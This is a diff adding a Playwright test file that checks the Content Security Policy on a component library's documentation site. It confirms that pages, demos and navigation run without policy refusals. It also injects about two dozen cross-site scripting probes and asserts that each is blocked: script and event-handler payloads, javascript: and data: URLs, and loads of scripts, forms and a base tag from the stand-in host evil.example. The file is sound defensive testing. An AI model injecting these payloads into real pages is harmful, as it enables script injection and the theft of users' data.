@@ -1,0 +1,178 @@
+import type { Browser, Page } from 'playwright-core';
+import { launchBrowser } from '../browser/harness/launchBrowser';
+import { startNginx, type Nginx } from './harness/startNginx';
+
+const PAGE = '/material-ui/react-button/';
+/** One page of each kind, and of each language. */
+const KINDS = [
+  '/',
+  PAGE,
+  '/material-ui/components/',
+  '/material-ui/api/button/',
+  '/versions/',
+  '/x/react-data-grid/',
+  '/joy-ui/react-select/',
+  '/experiments/docs/demos/',
+  '/zh/material-ui/react-button/',
+  '/ar/material-ui/react-button/',
+  '/no/such/page/',
+];
+
+let nginx: Nginx;
+let browser: Browser;
+
+beforeAll(async () => {
+  nginx = await startNginx();
+  browser = await launchBrowser();
+});
+afterAll(async () => {
+  await browser.close();
+  await nginx.stop();
+});
+
+/** A page that notes every refusal of the security policy. */
+async function openWatched(): Promise<{ page: Page; refused: string[] }> {
+  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
+  const page = await context.newPage();
+  const refused: string[] = [];
+  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const note = (window as unknown as { noteRefusal: (text: string) => void }).noteRefusal;
+      note(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  return { page, refused };
+}
+
+async function wake(page: Page): Promise<void> {
+  await page.mouse.move(3, 3);
+  await page.mouse.move(6, 6);
+  await page.waitForFunction(() => document.documentElement.dataset.ready === '');
+}
+
+describe('under the policy that nginx sends', () => {
+  it.each(KINDS)('%s runs whole, its demos included, and nothing is refused', async (path) => {
+    const { page, refused } = await openWatched();
+    await page.goto(nginx.origin + path);
+    await wake(page);
+    for (const demo of await page.locator('[data-demo]').all()) await demo.scrollIntoViewIfNeeded();
+    await page.waitForTimeout(600);
+    const dead = await page.locator('[data-demo]:not([data-live])').count();
+    await page.context().close();
+    expect({ refused, dead }).toEqual({ refused: [], dead: 0 });
+  });
+
+  it('client navigation between pages of every kind is not refused anything', async () => {
+    const { page, refused } = await openWatched();
+    await page.goto(`${nginx.origin}/`);
+    await wake(page);
+    await page.evaluate(() => Object.assign(window, { sameDocument: true }));
+    for (const path of [...KINDS.slice(1, 9), '/']) {
+      await page.evaluate((href) => {
+        const link = document.createElement('a');
+        link.href = href;
+        document.body.append(link);
+        link.click();
+        link.remove();
+      }, path);
+      await page.waitForFunction((href) => window.location.pathname === href, path);
+      await page.locator('main h1').waitFor();
+      await page.waitForTimeout(300);
+    }
+    const same = await page.evaluate(() => 'sameDocument' in window);
+    await page.context().close();
+    expect({ refused, same }).toEqual({ refused: [], same: true });
+  });
+
+  it('dialogs and menus of demos open', async () => {
+    const { page, refused } = await openWatched();
+    await page.goto(`${nginx.origin}/material-ui/react-dialog/`);
+    await wake(page);
+    const demo = page.locator('[data-demo]').first();
+    await demo.scrollIntoViewIfNeeded();
+    await page.locator('[data-demo][data-live]').first().waitFor();
+    await demo.locator('button').first().click();
+    await page.locator('[role="dialog"]').first().waitFor();
+    await page.context().close();
+    expect(refused).toEqual([]);
+  });
+});
+
+/** What an attacker might get into a page's text; each sets `pwned` or asks another host when it works. */
+const PROBES: readonly string[] = [
+  '<script>window.pwned=1</script>',
+  '<script type="module">window.pwned=1</script>',
+  '<img src="/no.png" onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"></svg>',
+  '<body onpageshow="window.pwned=1">',
+  '<details open ontoggle="window.pwned=1"></details>',
+  '<input autofocus onfocus="window.pwned=1">',
+  '<video><source onerror="window.pwned=1" src="/no"></video>',
+  '<a id="probe" href="javascript:window.pwned=1">x</a>',
+  '<iframe src="javascript:parent.pwned=1"></iframe>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<script src="data:text/javascript,window.pwned=1"></script>',
+  '<script src="//evil.example/x.js"></script>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>body{background:url(https://evil.example/x)}</style>',
+  '<base href="https://evil.example/">',
+  '<form id="probe-form" action="https://evil.example/"><input name="a"></form>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<link rel="manifest" href="https://evil.example/m.json">',
+];
+
+describe('what is injected into a page', () => {
+  it.each(PROBES)('is refused: %s', async (probe) => {
+    const { page, refused } = await openWatched();
+    const asked: string[] = [];
+    await page.route('**/*', async (route) => {
+      const url = route.request().url();
+      if (url.includes('evil.example')) {
+        asked.push(url);
+        await route.fulfill({ body: 'window.pwned=1', contentType: 'text/javascript' });
+      } else if (url === nginx.origin + PAGE) {
+        const response = await route.fetch();
+        const body = (await response.text()).replace('<div id="b0"', `${probe}<div id="b0"`);
+        await route.fulfill({ response, body });
+      } else await route.continue();
+    });
+    await page.goto(nginx.origin + PAGE);
+    await page.evaluate(() => {
+      document.querySelector<HTMLElement>('#probe')?.click();
+      document.querySelector<HTMLFormElement>('#probe-form')?.submit();
+    });
+    await page.waitForTimeout(300);
+    const pwned = await page.evaluate(() => 'pwned' in window);
+    const base = await page.evaluate(() => new URL(document.baseURI).origin);
+    await page.context().close();
+    expect({ pwned, asked, base }).toEqual({ pwned: false, asked: [], base: nginx.origin });
+    expect(refused.length).toBeGreaterThan(0);
+  });
+
+  it('cannot make code from text, even from a script of the site', async () => {
+    const { page, refused } = await openWatched();
+    await page.route('**/probe.js', (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        body: 'window.tried=0;for(const f of [()=>eval("window.pwned=1"),()=>new Function("window.pwned=1")(),()=>setTimeout("window.pwned=1")]){try{f()}catch{}window.tried++}',
+      }),
+    );
+    await page.goto(nginx.origin + PAGE);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = '/probe.js';
+      document.head.append(script);
+    });
+    await page.waitForFunction(() => 'tried' in window && window.tried === 3);
+    await page.waitForTimeout(100);
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+    await page.context().close();
+    expect(refused.length).toBe(3);
+  });
+});
